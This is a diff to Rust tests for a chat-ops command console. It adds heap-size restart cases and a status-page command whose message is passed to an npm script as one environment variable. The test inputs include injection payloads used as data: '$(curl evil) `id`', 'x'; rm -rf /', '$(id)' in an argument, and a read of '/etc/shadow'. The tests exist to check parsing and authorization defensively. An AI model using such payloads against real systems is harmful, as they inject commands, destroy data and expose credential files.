@@ -73,6 +73,8 @@ fn every_app_host_command_parses_authorizes_and_renders() {
                 ("console:alice", "/ops logs app --lines 501"),
                 ("console:alice", "/ops logs /etc/shadow"),
                 ("console:alice", "/ops restart app"),
+                ("console:alice", "/ops restart app --heap-mb 4096"),
+                ("console:alice", "/ops restart app --heap-mb 512"),
                 ("console:bob", "/db migrate"),
             ],
         ),
@@ -97,6 +99,7 @@ fn every_app_host_command_parses_authorizes_and_renders() {
                 ("console:alice", "/ops trace -v"),
                 ("console:alice", "/ops trace \"x'; rm -rf /\""),
                 ("console:alice", "/ops restart app"),
+                ("console:alice", "/ops restart app --heap-mb 4096"),
                 ("console:alice", "/ops restart workers"),
                 ("console:alice", "/ops scale workers 10"),
                 ("console:alice", "/ops scale workers \"10 $(id)\""),
@@ -171,6 +174,15 @@ fn every_app_host_command_parses_authorizes_and_renders() {
                 ("console:erin", "/security breach-check"),
                 ("console:alice", "/security enhanced-monitoring"),
                 ("console:erin", "/security review admin"),
+                ("console:alice", "/ops status-page"),
+                (
+                    "console:alice",
+                    "/ops status-page --message \"We're back: all systems up (100%)\"",
+                ),
+                (
+                    "console:alice",
+                    "/ops status-page --message \"$(curl evil) `id`\"",
+                ),
             ],
         ),
     ];
@@ -391,6 +403,29 @@ async fn the_worker_count_reaches_pm2_in_its_environment() {
         .await
         .unwrap();
     assert_eq!(out.text, "WORKER_CONCURRENCY=10 restart all --update-env\n");
+}
+
+#[tokio::test]
+async fn the_status_message_reaches_the_script_in_its_environment_as_one_value() {
+    let s = StandIns::new(&[("npm", "")]);
+    std::fs::write(
+        s.dir.path().join("bin/npm"),
+        "#!/bin/sh\nprintf '%s|%s|%s' \"${STATUS_MESSAGE-unset}\" \"$*\" \"$PWD\"\n",
+    )
+    .unwrap();
+    let c = catalog(Some(&s));
+    let cmd = c.get("pdf", "ops status-page").unwrap();
+    let ex = s.executor(&["npm"]);
+    let msg = "We're back: all (100%) & \"fine\" #1";
+    let out = ex
+        .execute(&cmd.action, &c.targets, &args(&[("message", msg)]))
+        .await
+        .unwrap();
+    let app = s.path("app");
+    assert_eq!(out.text, format!("{msg}|run status:update|{app}"));
+    // Without --message the variable is not set at all.
+    let out = ex.execute(&cmd.action, &c.targets, &args(&[])).await.unwrap();
+    assert_eq!(out.text, format!("unset|run status:update|{app}"));
 }
 
 #[tokio::test]
